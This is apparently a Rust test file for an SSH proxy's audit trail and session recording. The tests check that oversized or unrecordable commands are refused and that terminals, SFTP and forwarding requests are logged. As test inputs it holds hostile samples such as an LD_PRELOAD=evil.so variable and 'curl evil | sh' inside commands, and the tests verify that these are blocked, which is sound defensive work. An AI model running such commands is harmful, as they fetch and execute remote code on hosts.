use std::{collections::BTreeMap, fs, path::Path};

use auth::clock::Clock;
use prometheus::IntCounter;
use protocols::{
    Event, Exit, Listener, SftpAttributes, SftpEvent, SftpOperation, SftpOutcome, Tap as _, TapClosed,
    TcpForward,
};
use serde_json::Value;
use tempfile::TempDir;
use tokio::time::{Duration, timeout};
use tokio_util::sync::CancellationToken;

use super::*;
use crate::{
    audit::{
        Audit, AuditSpool, Ending, Parameters, Started, Subject, SubjectTarget, Trail, on_disk,
        trail::TrailTap,
    },
    recording::{Acknowledged, Couriers, RecordingUplink, UploadError},
};

const BOUND: u64 = 16 * 1024 * 1024;

/// One session on record, and its tap.
struct Stage {
    data: TempDir,
    trail: Trail,
    tap: TrailTap,
    audit: Audit,
    sid: Uuid,
    couriers: Option<Couriers>,
    _spool: AuditSpool,
}

/// An authd that takes no recording.
struct Refusing;

impl RecordingUplink for Refusing {
    async fn upload(
        &self,
        _: Uuid,
        _: &Of,
        _: u64,
        _: Vec<u8>,
        _: bool,
    ) -> Result<Acknowledged, UploadError> {
        Err(UploadError::Refused("never".into()))
    }
}

impl Stage {
    async fn new(mode: RecordingMode) -> Self {
        let data = tempfile::tempdir().unwrap();
        let (audit, spool) =
            Audit::open(data.path(), BOUND, IntCounter::new("failed", "failed").unwrap()).unwrap();
        let (recordings, couriers) = Recordings::open(data.path(), BOUND).unwrap();
        let sid = Uuid::new_v4();
        let target = SubjectTarget::Node {
            server_hostname: "prod-web".to_owned(),
            server_labels: BTreeMap::from([("env".to_owned(), "prod".to_owned())]),
            server_addr: "127.0.0.1:22".to_owned(),
            login: "root".to_owned(),
            proto: "ssh",
        };
        let subject = Subject {
            sid,
            cluster_name: "example".to_owned(),
            server_id: "sidecar".to_owned(),
            user: Some("jerry".to_owned()),
            target,
            remote: "127.0.0.1:1".parse().unwrap(),
            with_mfa: None,
        };
        let started = Started::new("access-prod".to_owned(), None);
        let trail =
            Trail::begin(&audit, &Clock::system(), &subject, &started, Parameters::Recorded).await.unwrap();
        let (user, login, target_name) = ("jerry".to_owned(), "root".to_owned(), "prod-web".to_owned());
        let of = Of { user, login, target_name, started: 0 };
        let tap = trail.tap(Some(Recorded { recordings, of, sid, mode }));
        Self { data, trail, tap, audit, sid, couriers: Some(couriers), _spool: spool }
    }

    async fn sees(
        &mut self,
        channel: u32,
        allowed: bool,
        action: SshAction<'_>,
    ) -> Result<Verdict, TapClosed> {
        self.tap.observe(Event::Ssh(SshEvent { channel: Some(channel), allowed, action })).await
    }

    async fn forwards(&mut self, channel: u32, action: SshAction<'_>) {
        assert_eq!(self.sees(channel, true, action).await, Ok(Verdict::Forward));
    }

    async fn refuses(&mut self, channel: u32, action: SshAction<'_>) {
        // What is not allowed is refused by who asks, whatever the verdict.
        assert_eq!(self.sees(channel, false, action).await, Ok(Verdict::Forward));
    }

    async fn terminal(&mut self, channel: u32) -> Result<Verdict, TapClosed> {
        self.forwards(channel, SshAction::Open(ChannelKind::Session)).await;
        let size = TerminalSize { columns: 91, rows: 33 };
        self.forwards(channel, SshAction::Pty { term: b"xterm", size }).await;
        self.sees(channel, true, SshAction::Shell).await
    }

    async fn ends(self) -> (Vec<Value>, TempDir) {
        drop(self.tap);
        let ending =
            Ending { reason: "client_closed", by_itself: true, bytes_from_client: 1, bytes_from_upstream: 2 };
        self.trail.end(&ending).await;
        self.audit.close().await;
        let events =
            on_disk(self.data.path()).iter().map(|json| serde_json::from_str(json).unwrap()).collect();
        (events, self.data)
    }
}

fn names(events: &[Value]) -> Vec<&str> {
    events.iter().map(|event| event["event"].as_str().unwrap()).collect()
}

fn cast(data: &Path, id: Uuid) -> Option<String> {
    fs::read_to_string(data.join(format!("recordings/{id}.cast"))).ok()
}

#[tokio::test]
async fn a_variable_that_has_no_room_on_record_does_not_pass() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
    for number in 0..MAX_VARIABLES {
        let name = format!("LC_{number}");
        let length = if number == 0 { 20_000 } else { 20 };
        stage.forwards(0, SshAction::Env { name: name.as_bytes(), value: &vec![b'x'; length] }).await;
    }
    let last = SshAction::Env { name: b"LD_PRELOAD", value: b"evil.so" };
    let Ok(Verdict::Refuse(_)) = stage.sees(0, true, last).await else { panic!("it passed") };
    stage.forwards(0, SshAction::Exec { command: b"id", file_copy: false }).await;
    let (events, _data) = stage.ends().await;
    let refused = events.iter().find(|event| event.to_string().contains("LD_PRELOAD")).unwrap();
    assert_eq!(refused["success"], false, "{refused}");
    let ran = events.iter().find(|event| event["event"] == "exec").unwrap();
    let value = ran["environment"]["LC_0"].as_str().unwrap_or_else(|| panic!("{ran}"));
    assert_eq!(value.len(), 20_000, "all of it: a command may be in it");
}

#[tokio::test]
async fn a_variable_that_is_not_on_record_as_it_is_does_not_pass() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
    let long = vec![b'x'; 50_000];
    // The second name would be on record as the first.
    for (name, value) in [(&b"LC_X"[..], &long[..]), (b"LC_\xff", b"curl evil | sh"), (b"LC_\xfe", b"hello")]
    {
        let Ok(Verdict::Refuse(_)) = stage.sees(0, true, SshAction::Env { name, value }).await else {
            panic!("it passed: {name:?}")
        };
    }
    stage.forwards(0, SshAction::Exec { command: b"eval \"$LC_X\"", file_copy: false }).await;
    let (events, _data) = stage.ends().await;
    let refused = names(&events).into_iter().filter(|name| *name == "session.request.refused").count();
    assert_eq!(refused, 3);
}

#[tokio::test]
async fn a_command_is_on_record_whole_or_does_not_run_and_then_its_hash_is() {
    let padded = |length| [&b": '"[..], &vec![b'x'; length], b"'; curl evil | sh"].concat();
    let longest_of_linux = vec![b'x'; 128 * 1024 - 1];
    for whole in [padded(70_000), longest_of_linux] {
        let mut stage = Stage::new(RecordingMode::BestEffort).await;
        stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
        stage.forwards(0, SshAction::Exec { command: &whole, file_copy: false }).await;
        let (events, _data) = stage.ends().await;
        assert_eq!(events[1]["command"].as_str().unwrap().as_bytes(), whole);
        assert!(events[1].get("command_cut").is_none());
    }
    let no_text = [&[0xff; 70_000][..], b"; curl evil | sh"].concat();
    for long in [padded(140_000), no_text, vec![1; 70_000], vec![b'"'; 100_000]] {
        let mut stage = Stage::new(RecordingMode::BestEffort).await;
        stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
        let asked = SshAction::Exec { command: &long, file_copy: false };
        let Ok(Verdict::Refuse(_)) = stage.sees(0, true, asked).await else { panic!("it ran") };
        // The session goes on, and the channel is no work.
        stage.forwards(0, SshAction::Exec { command: b"id", file_copy: false }).await;
        let (events, _data) = stage.ends().await;
        let refused = &events[1];
        assert_eq!((&refused["code"], &refused["success"]), (&"T3002E".into(), &false.into()));
        assert_eq!(refused["error"], "too long to be put on record whole");
        assert_eq!((&refused["command_cut"], &refused["command_bytes"]), (&true.into(), &long.len().into()));
        let sha256 = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &long);
        assert_eq!(refused["command_sha256"], hex::encode(sha256.as_ref()));
        assert_eq!(events[2]["code"], "T3002I");
    }
}

#[tokio::test]
async fn the_longest_command_in_the_longest_environment_is_an_event_that_fits() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
    let size = TerminalSize { columns: 91, rows: 33 };
    stage.forwards(0, SshAction::Pty { term: &[1; 8_000], size }).await;
    let (mut passed, mut number) = (0, 0);
    while passed == number {
        let name = format!("LC_{number}");
        // Each is six bytes of JSON.
        let variable = SshAction::Env { name: name.as_bytes(), value: &[1; 1_000] };
        passed += usize::from(stage.sees(0, true, variable).await == Ok(Verdict::Forward));
        number += 1;
    }
    assert!((4..MAX_VARIABLES).contains(&passed), "bounded in bytes: {passed}");
    stage.forwards(0, SshAction::Exec { command: &[b'x'; 136 * 1024], file_copy: false }).await;
    let (events, _data) = stage.ends().await;
    let ran = events.iter().find(|event| event["event"] == "exec").unwrap();
    assert_eq!(ran["environment"].as_object().unwrap().len(), passed);
    let refused = events.iter().find(|event| event["event"] == "session.request.refused").unwrap();
    assert_eq!((&refused["request"], &refused["name"]), (&"env".into(), &format!("LC_{passed}").into()));
}

#[tokio::test]
async fn a_subsystem_whose_name_is_not_on_record_whole_does_not_start() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
    let long = SshAction::Subsystem { name: &[b'x'; 5_000], file_copy: false };
    let Ok(Verdict::Refuse(_)) = stage.sees(0, true, long).await else { panic!("it started") };
    let (events, _data) = stage.ends().await;
    assert_eq!((&events[1]["code"], &events[1]["request"]), (&"TTS24W".into(), &"subsystem".into()));
}

#[tokio::test]
async fn a_terminal_is_recorded_under_the_sessions_id_before_its_shell_starts() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    let sid = stage.sid;
    assert_eq!(stage.terminal(0).await, Ok(Verdict::Forward));
    assert!(cast(stage.data.path(), sid).unwrap().contains(r#""width":91,"height":33"#));
    stage.forwards(0, SshAction::Output { bytes: b"$ " }).await;
    assert!(cast(stage.data.path(), sid).unwrap().contains(r#""o","$ ""#), "on disk when it is shown");
    stage.forwards(0, SshAction::WindowChange(TerminalSize { columns: 120, rows: 40 })).await;
    stage.forwards(0, SshAction::Input { length: 4 }).await;
    let exit = Some(Exit::Status(3));
    stage.forwards(0, SshAction::Close { exit, from_client: 4, from_upstream: 2 }).await;
    let (events, data) = stage.ends().await;
    assert_eq!(
        names(&events),
        ["session.start", "session.shell", "session.channel.end", "session.data", "session.end"]
    );
    assert_eq!(
        (&events[1]["recording"], &events[1]["terminal"]["type"]),
        (&sid.to_string().into(), &"xterm".into())
    );
    assert_eq!((&events[2]["exitCode"], &events[2]["started_ei"]), (&3.into(), &1.into()));
    assert_eq!((&events[3]["rx"], &events[3]["tx"]), (&1.into(), &2.into()));
    assert_eq!(
        (&events[4]["interactive"], &events[4]["recordings"]),
        (&true.into(), &serde_json::json!([sid]))
    );
    assert!(cast(data.path(), sid).unwrap().contains(r#""r","120x40""#));
    for (ei, event) in events.iter().enumerate() {
        assert_eq!(event["ei"], ei);
        assert_eq!((&event["login"], &event["server_labels"]["env"]), (&"root".into(), &"prod".into()));
    }
}

#[tokio::test]
async fn every_terminal_has_its_own_recording_and_what_has_none_has_no_recording() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    for channel in [0, 1] {
        assert_eq!(stage.terminal(channel).await, Ok(Verdict::Forward));
        stage.forwards(channel, SshAction::Output { bytes: format!("channel {channel}").as_bytes() }).await;
    }
    stage.forwards(2, SshAction::Open(ChannelKind::Session)).await;
    stage.forwards(2, SshAction::Exec { command: b"uptime", file_copy: false }).await;
    let (events, data) = stage.ends().await;
    let recordings = events.last().unwrap()["recordings"].as_array().unwrap().clone();
    assert_eq!(recordings.len(), 2);
    for (channel, id) in recordings.iter().enumerate() {
        let text = cast(data.path(), id.as_str().unwrap().parse().unwrap()).unwrap();
        assert!(
            text.contains(&format!("channel {channel}"))
                && !text.contains(&format!("channel {}", 1 - channel))
        );
    }
    let exec = events.iter().find(|event| event["event"] == "exec").unwrap();
    assert!(exec.get("recording").is_none() && exec.get("terminal").is_none());
}

#[tokio::test]
async fn a_shell_without_a_terminal_is_recorded_as_a_terminal_would_show_it_and_is_work() {
    let mut stage = Stage::new(RecordingMode::Strict).await;
    let sid = stage.sid;
    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
    stage.forwards(0, SshAction::Shell).await;
    stage.forwards(0, SshAction::Output { bytes: b"one\ntwo\r\n\nthree" }).await;
    let shown = cast(stage.data.path(), sid).unwrap();
    assert!(shown.contains(r#""o","one\r\ntwo\r\n\r\nthree""#), "{shown}");
    let idle = stage.trail.idle(Duration::from_millis(50));
    assert!(timeout(Duration::from_millis(300), idle).await.is_err(), "it runs");
    stage.forwards(0, SshAction::Close { exit: None, from_client: 0, from_upstream: 0 }).await;
    timeout(Duration::from_secs(10), stage.trail.idle(Duration::from_millis(50))).await.unwrap();
    let (events, _data) = stage.ends().await;
    let end = events.last().unwrap();
    assert_eq!(
        (&events[1]["recording"], &end["recordings"]),
        (&sid.to_string().into(), &serde_json::json!([sid]))
    );
    assert_eq!((events[1].get("terminal"), &end["interactive"]), (None, &false.into()));
}

#[tokio::test]
async fn a_shell_without_a_terminal_that_must_be_recorded_and_cannot_be_does_not_start() {
    let mut stage = Stage::new(RecordingMode::Strict).await;
    spoil(&stage);
    stage.forwards(0, SshAction::Open(ChannelKind::Session)).await;
    assert!(matches!(stage.sees(0, true, SshAction::Shell).await, Ok(Verdict::End(_))));
}

/// A place where no recording can be made.
fn spoil(stage: &Stage) {
    let folder = stage.data.path().join("recordings");
    fs::remove_dir_all(&folder).unwrap();
    fs::write(folder, b"in the way").unwrap();
}

#[tokio::test]
async fn a_terminal_that_cannot_be_recorded_goes_on_where_that_is_all_right_and_says_so() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    spoil(&stage);
    assert_eq!(stage.terminal(0).await, Ok(Verdict::Forward));
    stage.forwards(0, SshAction::Output { bytes: b"shown" }).await;
    assert_eq!(stage.trail.stopped(), None);
    let (events, _data) = stage.ends().await;
    assert_eq!(names(&events)[1..3], ["session.shell", "session.unrecorded"]);
    assert!(events[1].get("recording").is_none());
    assert_eq!(events[2]["record_session"], "best_effort");
    assert!(events.last().unwrap().get("recordings").is_none());
}

#[tokio::test]
async fn a_terminal_that_must_be_recorded_and_cannot_be_ends_the_session_before_it_shows_anything() {
    let mut stage = Stage::new(RecordingMode::Strict).await;
    spoil(&stage);
    let Ok(Verdict::End(refusal)) = stage.terminal(0).await else { panic!("it goes on") };
    assert!(refusal.message.contains("recording cannot go on"), "{}", refusal.message);
    assert_eq!(stage.trail.stopped(), Some("recording_failed"));
    let (events, _data) = stage.ends().await;
    assert_eq!(events[2]["record_session"], "strict");
}

#[tokio::test]
async fn a_terminal_that_must_be_recorded_ends_when_authd_refuses_its_recording_for_good() {
    let mut stage = Stage::new(RecordingMode::Strict).await;
    let couriers = stage.couriers.take().unwrap();
    tokio::spawn(couriers.run(Refusing, CancellationToken::new()));
    assert_eq!(stage.terminal(0).await, Ok(Verdict::Forward));
    let ended = timeout(Duration::from_secs(20), async {
        loop {
            match stage.sees(0, true, SshAction::Output { bytes: b"$ " }).await {
                Ok(Verdict::Forward) => tokio::time::sleep(Duration::from_millis(5)).await,
                ended => break ended,
            }
        }
    });
    let Ok(Ok(Verdict::End(_))) = ended.await else { panic!("it goes on") };
    assert_eq!(stage.trail.stopped(), Some("recording_failed"));
    let (events, _data) = stage.ends().await;
    let unrecorded = events.iter().find(|event| event["event"] == "session.unrecorded").unwrap();
    assert_eq!(unrecorded["reason"], "authd refuses the recording for good");
}

#[tokio::test]
async fn what_is_asked_for_is_on_record_allowed_or_not() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    let forward = TcpForward { host: b"::1", port: 80, origin_host: b"127.0.0.1", origin_port: 5 };
    stage.forwards(0, SshAction::Open(ChannelKind::DirectTcpip(forward))).await;
    stage.refuses(1, SshAction::Open(ChannelKind::DirectTcpip(forward))).await;
    stage.refuses(2, SshAction::Listen(Listener::Unix { path: b"/tmp/x" })).await;
    stage.refuses(3, SshAction::Exec { command: b"scp -t \xff", file_copy: true }).await;
    stage.refuses(3, SshAction::Subsystem { name: b"sftp", file_copy: true }).await;
    stage.refuses(3, SshAction::Agent).await;
    stage.refuses(3, SshAction::X11 { single: true }).await;
    stage.forwards(3, SshAction::Signal { name: b"TERM" }).await;
    stage.refuses(4, SshAction::Open(ChannelKind::Session)).await;
    stage.refuses(5, SshAction::Open(ChannelKind::Unknown { name: b"tun@openssh.com" })).await;
    stage.refuses(6, SshAction::Open(ChannelKind::ForwardedTcpip(forward))).await;
    stage.refuses(7, SshAction::Open(ChannelKind::Uninvited { name: b"direct-tcpip" })).await;
    stage.refuses(8, SshAction::Open(ChannelKind::Agent)).await;
    stage.refuses(0, SshAction::Signal { name: b"KILL" }).await;
    let (events, _data) = stage.ends().await;
    let seen: Vec<_> = events[1..events.len() - 2]
        .iter()
        .map(|event| {
            (event["event"].as_str().unwrap(), event["code"].as_str().unwrap(), event["success"].as_bool())
        })
        .collect();
    let expected = [
        ("port", "T3003I", Some(true)),
        ("port", "T3003E", Some(false)),
        ("port", "T3003E", Some(false)),
        ("exec", "T3002E", Some(false)),
        ("subsystem", "T3001E", Some(false)),
        ("session.agent", "TTS22W", Some(false)),
        ("x11-forward", "T3008W", Some(false)),
        ("session.signal", "TTS23I", None),
        ("session.rejected", "T1006W", None),
        ("session.request.refused", "TTS24W", Some(false)),
        ("port", "T3003E", Some(false)),
        ("session.request.refused", "TTS24W", Some(false)),
        ("session.request.refused", "TTS24W", Some(false)),
        ("session.request.refused", "TTS24W", Some(false)),
    ];
    assert_eq!(seen, expected);
    for (event, name) in events[12..].iter().zip(["direct-tcpip", "auth-agent@openssh.com"]) {
        assert_eq!((&event["request"], &event["name"]), (&"host_channel".into(), &name.into()), "the host's");
        assert_ne!(event["error"], "not allowed by your roles");
    }
    assert_eq!((&events[1]["addr"], &events[1]["origin"]), (&"[::1]:80".into(), &"127.0.0.1:5".into()));
    assert_eq!(events[3]["addr"], "unix:/tmp/x");
    assert_eq!(events[4]["command_base64"], "c2NwIC10IP8=");
}

#[tokio::test]
async fn a_file_of_sftp_is_one_event_with_what_was_done_to_it() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    let file = |read, written, outcome| {
        SshAction::Sftp(SftpEvent {
            operation: SftpOperation::File,
            path: b"/etc/passwd",
            target: None,
            unknown_handle: None,
            read,
            written,
            flags: Some(26),
            attributes: SftpAttributes { permissions: Some(0o4755), ..SftpAttributes::default() },
            outcome,
        })
    };
    stage.forwards(0, file(10, 0, SftpOutcome::Done)).await;
    stage.forwards(0, file(0, 20, SftpOutcome::Done)).await;
    stage.forwards(0, file(0, 0, SftpOutcome::Failed { code: 3 })).await;
    stage.forwards(0, file(5, 0, SftpOutcome::Unfinished)).await;
    let guessed = SftpEvent {
        operation: SftpOperation::SetAttributes,
        path: b"",
        target: Some(b"/\xff"),
        unknown_handle: Some(b"guess"),
        read: 0,
        written: 0,
        flags: None,
        attributes: SftpAttributes::default(),
        outcome: SftpOutcome::Failed { code: 4 },
    };
    stage.forwards(0, SshAction::Sftp(guessed)).await;
    let (events, _data) = stage.ends().await;
    assert_eq!((&events[5]["unknown_handle"], &events[5]["code"]), (&"Z3Vlc3M=".into(), &"TS007E".into()));
    assert_eq!(events[5]["target_path_base64"], "L/8=");
    assert!(events[5].get("flags").is_none() && events[5].get("attributes").is_none());
    assert_eq!(events[1]["flags"], serde_json::json!(["write", "create", "truncate"]));
    assert_eq!(events[1]["attributes"], serde_json::json!({"permissions": "4755"}));
    let seen: Vec<_> = events[1..5]
        .iter()
        .map(|event| {
            (event["code"].as_str().unwrap(), event["action"].as_str().unwrap(), event["status"].as_u64())
        })
        .collect();
    let expected = [
        ("TS003I", "read", None),
        ("TS004I", "write", None),
        ("TS001E", "open", Some(3)),
        ("TS003E", "read", Some(255)),
    ];
    assert_eq!(seen, expected);
    assert_eq!((&events[1]["bytes_read"], &events[2]["bytes_written"]), (&10.into(), &20.into()));
}

#[tokio::test]
async fn a_terminal_is_idle_while_nobody_types_and_a_command_is_work_while_it_runs() {
    let mut stage = Stage::new(RecordingMode::BestEffort).await;
    assert_eq!(stage.terminal(0).await, Ok(Verdict::Forward));
    stage.forwards(1, SshAction::Open(ChannelKind::Session)).await;
    stage.forwards(1, SshAction::Exec { command: b"sleep 60", file_copy: false }).await;
    let limit = Duration::from_millis(50);
    let idle = stage.trail.idle(limit);
    assert!(timeout(Duration::from_millis(300), idle).await.is_err(), "the command runs");
    stage.forwards(1, SshAction::Close { exit: None, from_client: 0, from_upstream: 0 }).await;
    timeout(Duration::from_secs(10), stage.trail.idle(limit)).await.unwrap();
    stage.refuses(2, SshAction::Open(ChannelKind::Uninvited { name: b"session" })).await;
    let still = timeout(Duration::ZERO, stage.trail.idle(limit)).await;
    still.expect("the host does not keep it from being idle");
}
